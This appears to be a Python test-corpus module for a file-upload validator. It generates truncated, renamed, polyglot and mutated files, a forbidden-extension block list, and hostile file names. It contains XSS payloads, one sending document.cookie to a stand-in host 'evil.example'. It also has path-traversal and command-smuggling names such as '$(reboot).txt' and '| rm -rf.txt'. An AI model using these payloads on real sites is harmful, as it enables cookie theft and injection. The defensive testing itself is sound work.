"""Files that are not what they say, are not all there, or carry a script; and names made to do harm."""

import random
import zlib

from files.kinds import ALLOWED, find_kind
from tests.files import samples
from tests.files.corpus.cases import Case, either, refused, safe
from tests.files.samples import GOOD

SCRIPTS = {
    "page": b"<!DOCTYPE html><html><body><script>fetch('//evil.example/'+document.cookie)</script></body></html>",
    "drawing": b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>',
    "xml": b'<?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>',
    "script": b"alert(document.domain)//",
}
TEXT_ENDINGS = (".txt", ".csv")
# Text is text, and recorders write sound and film into the same container.
ALIKE = [{"txt", "csv", "eml"}, {"mp4", "m4a", "mov"}, {"msg", "doc"}]
FORBIDDEN = [
    ".exe",
    ".dll",
    ".com",
    ".bat",
    ".cmd",
    ".ps1",
    ".vbs",
    ".js",
    ".mjs",
    ".jar",
    ".hta",
    ".lnk",
    ".url",
    ".html",
    ".htm",
    ".xhtml",
    ".xml",
    ".svg",
    ".svgz",
    ".mht",
    ".swf",
    ".php",
    ".py",
    ".sh",
    ".iso",
    ".zip",
    ".rar",
    ".7z",
    ".gz",
    ".tar",
    ".docm",
    ".dotm",
    ".xlsm",
    ".xlsb",
    ".xltm",
    ".pptm",
    ".ppsm",
    ".rtf",
    ".wmf",
    ".tiff",
    ".bmp",
    ".ico",
    ".avif",
    ".psd",
]


def cut(content: bytes, share: float) -> bytes:
    return content[: max(1, int(len(content) * share))]


def truncated() -> list[Case]:
    """Stopped half-way: a connection that broke, a full card."""
    cases = []
    for name in ("visit.jpg", "plan.png", "shelf.webp", "iphone.heic"):
        cases += [refused(f"{share}-{name}", cut(GOOD[name], share), "“") for share in (0.02, 0.3, 0.6)]
    whole = samples.picture("JPEG", size=(300, 200), progressive=True)
    cases += [refused(f"progressive-{share}.jpg", cut(whole, share), "broken") for share in (0.1, 0.5, 0.9)]
    cases += [either(f"{share}-sign.gif", cut(GOOD["sign.gif"], share)) for share in (0.01, 0.3, 0.6, 0.99)]
    cases += [either(f"{share}-report.pdf", cut(GOOD["report.pdf"], share)) for share in (0.001, 0.2, 0.5, 0.8, 0.99)]
    for name in ("diary.docx", "rota.xlsx", "talk.pptx", "diary.odt", "rota.ods", "talk.odp"):
        cases += [refused(f"{share}-{name}", cut(GOOD[name], share), "damaged") for share in (0.1, 0.5, 0.95)]
    for name in ("diary.doc", "rota.xls", "thanks.msg", "thanks.eml", "talk.mp3", "talk.ogg", "counter.mp4"):
        cases += [either(f"{share}-{name}", cut(GOOD[name], share)) for share in (0.01, 0.6)]
    return cases


def empty() -> list[Case]:
    """Nothing in it, or next to nothing, under every ending that is allowed."""
    cases = [refused(f"empty{kind.extensions[0]}", b"", "is empty") for kind in ALLOWED]
    for kind in ALLOWED:
        ending = kind.extensions[0]
        make = safe if ending in TEXT_ENDINGS else refused
        cases.append(make(f"one{ending}", b"P"))
    return cases


def renamed() -> list[Case]:
    """One allowed type under the ending of another."""
    cases = []
    kinds = list(ALLOWED)
    for at, (name, content) in enumerate(GOOD.items()):
        own = find_kind(name)
        assert own is not None
        others = [k for k in kinds if k != own and not any({k.key, own.key} <= group for group in ALIKE)]
        for step in (3, 11):
            ending = others[(at + step) % len(others)].extensions[-1]
            cases.append(refused(f"{name.replace('.', '-')}{ending}", content, "says it is"))
    return cases


def forbidden() -> list[Case]:
    """Types that are on no list, however harmless their content."""
    contents = [b"MZ\x90\0" + b"\0" * 60, GOOD["visit.jpg"], SCRIPTS["page"], GOOD["diary.docx"]]
    return [
        refused(f"file{ending}", contents[at % len(contents)], "not a type of file that can be handed in")
        for at, ending in enumerate(FORBIDDEN)
    ]


def scripts() -> list[Case]:
    """Web pages and scripts under every ending. As text they are text, and only ever download."""
    cases = []
    for kind in ALLOWED:
        for what, content in list(SCRIPTS.items())[:2]:
            ending = kind.extensions[0]
            make = safe if ending in TEXT_ENDINGS else refused
            cases.append(make(f"{what}{ending}", content))
    for what, content in SCRIPTS.items():
        cases.append(refused(f"utf7-{what}.jpg", b"+ADw-script+AD4-" + content))
        cases.append(safe(f"wide-{what}.txt", content.decode().encode("utf-16")))
    return cases


def polyglots() -> list[Case]:
    """Two things at once: a picture to us and a script to a browser that guesses."""
    page = SCRIPTS["page"]
    jpeg, png, gif = GOOD["visit.jpg"], GOOD["plan.png"], GOOD["sign.gif"]
    comment = b"\xff\xfe" + (len(page) + 2).to_bytes(2, "big") + page
    text = b"tEXt" + b"Comment\0" + page
    chunk = (len(text) - 4).to_bytes(4, "big") + text + zlib.crc32(text).to_bytes(4, "big")
    return [
        safe("trailing-page.jpg", jpeg + page),
        safe("comment-page.jpg", jpeg[:2] + comment + jpeg[2:]),
        safe("trailing-page.png", png + page),
        safe("text-chunk.png", png[:33] + chunk + png[33:]),
        safe("trailing-page.gif", gif + page),
        either("script.gif", b"GIF89a/*" + gif[8:] + b"*/=1;alert(1)//"),
        refused("leading-page.jpg", page + jpeg),
        refused("leading-page.pdf", page + GOOD["report.pdf"]),
        safe("trailing-archive.jpg", jpeg + GOOD["diary.docx"]),
        refused("picture-first.docx", jpeg + GOOD["diary.docx"], "a JPEG picture"),
        refused("page-first.docx", page + GOOD["diary.docx"]),
        either("trailing-page.docx", GOOD["diary.docx"] + page),
        safe("trailing-page.pdf", GOOD["report.pdf"] + page),
        either("blank-first.pdf", b"\n\n" + GOOD["report.pdf"] + GOOD["diary.docx"]),
        safe("page.mp3", b"ID3\x04\0\0\0\0\0\x10" + page),
        safe("page.wav", GOOD["talk.wav"] + page),
        safe("page.mp4", GOOD["counter.mp4"] + page),
        safe("page.mov", b"\0\0\0\x08wide\0\0\1\0mdat" + page),
        either("page.webm", GOOD["counter.webm"] + page),
        refused("macho.txt", b"\xcf\xfa\xed\xfe" + b"\0" * 60),
        refused("elf.mp4", b"\x7fELF\2\1\1" + b"\0" * 60),
        refused("class.mp3", b"\xca\xfe\xba\xbe\0\0\0\x34" + b"\0" * 60),
        refused("pe.pdf", b"MZ" + GOOD["report.pdf"], "a program"),
    ]


def mutated() -> list[Case]:
    """Good files with some bytes wrong, always the same ones."""
    chance = random.Random(20261122)
    names = [
        name for name in GOOD if name.endswith((".jpg", ".png", ".webp", ".gif", ".pdf", ".docx", ".eml", ".heic"))
    ]
    cases = []
    for at in range(24):
        name = names[at % len(names)]
        content = bytearray(GOOD[name])
        for _ in range(1 + at % 7):
            content[chance.randrange(len(content))] = chance.randrange(256)
        cases.append(either(f"wrong{at}-{name}", bytes(content)))
    return cases


NAMES = [
    "../../../etc/cron.d/evil.txt", "..\\..\\windows\\system32\\evil.txt", "/etc/passwd.txt", "C:\\boot.txt",
    "a" * 400 + ".txt", "é" * 300 + ".txt", "line\r\nSet-Cookie: a=b.txt", "tab\there.txt", "bell\x07.txt",
    "right\u202etxt.exe.txt", "zero\u200bwidth.txt", "no\u00a0break.txt", "\ufeffmark.txt", "emoji😀.txt",
    "quote\"and'tick.txt", "<script>alert(1)</script>.txt", "{{ 7*7 }}.txt", "%s%s%n.txt", "semi;colon.txt",
    "$(reboot).txt", "| rm -rf.txt", "con.txt", "nul.txt", "dots....txt", "  spaces  .txt", "~.txt", "-rf.txt",
    "a/b/c/d.txt", "very.many.dots.in.it.txt", "UPPER.TXT", "ｆｕｌｌwidth.txt", "cafe\u0301.txt",
]  # fmt: skip
NAMELESS = ["noending", ".", "..", "...", ".htaccess", ".jpg", "photo.jpg ", "photo.jpg.", "photo.jpg::$DATA", "txt"]


def names() -> list[Case]:
    """Names made to leave the folder, the header or the page; the content is a harmless text."""
    return [safe(name, f"text {at}".encode()) for at, name in enumerate(NAMES)] + [
        either(name, f"text of the nameless {at}".encode()) for at, name in enumerate(NAMELESS)
    ]


FAMILIES = {
    "truncated": truncated,
    "empty": empty,
    "renamed": renamed,
    "forbidden": forbidden,
    "scripts": scripts,
    "polyglots": polyglots,
    "mutated": mutated,
    "names": names,
}
